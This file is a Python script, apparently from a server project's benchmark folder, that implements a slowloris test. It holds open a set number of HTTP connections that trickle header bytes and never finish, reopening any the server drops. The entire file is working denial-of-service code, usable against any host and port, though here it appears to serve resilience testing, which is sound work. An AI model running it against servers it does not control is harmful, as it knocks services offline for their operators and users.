"""Slow clients (slowloris): N connections that trickle request headers one byte at a time and never
finish them. A connection the server drops is opened again, so the server faces N at all times.

    python bench/slow_clients.py HOST PORT COUNT BYTE_INTERVAL

Prints `OPEN <n>` once every connection was attempted, then runs until SIGTERM.
"""

from __future__ import annotations

import asyncio
import itertools
import signal
import sys


def header_stream(host: str) -> itertools.chain[int]:
    head = f"GET / HTTP/1.1\r\nHost: {host}\r\n".encode()
    lines = (f"X-Slow-{n}: {n}\r\n".encode() for n in itertools.count())
    return itertools.chain(head, itertools.chain.from_iterable(lines))


async def client(host: str, port: int, interval: float, opened: asyncio.Event) -> None:
    first = True
    while True:
        writer = None
        try:
            reader, writer = await asyncio.open_connection(host, port)
            if first:
                opened.set()
            for byte in header_stream(host):
                writer.write(bytes([byte]))
                await writer.drain()
                if reader.at_eof():
                    break
                await asyncio.sleep(interval)
        except OSError:
            pass
        finally:
            if first:
                opened.set()
                first = False
            if writer is not None:
                writer.close()
        await asyncio.sleep(0.2)


async def main(host: str, port: int, count: int, interval: float) -> None:
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    events = []
    tasks = []
    for _ in range(count):
        ev = asyncio.Event()
        events.append(ev)
        tasks.append(asyncio.create_task(client(host, port, interval, ev)))
        await asyncio.sleep(0.002)
    await asyncio.wait_for(asyncio.gather(*(e.wait() for e in events)), timeout=10)
    print(f"OPEN {count}", flush=True)
    await stop.wait()
    for t in tasks:
        t.cancel()


if __name__ == "__main__":
    h, p, c, i = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    asyncio.run(main(h, p, c, i))
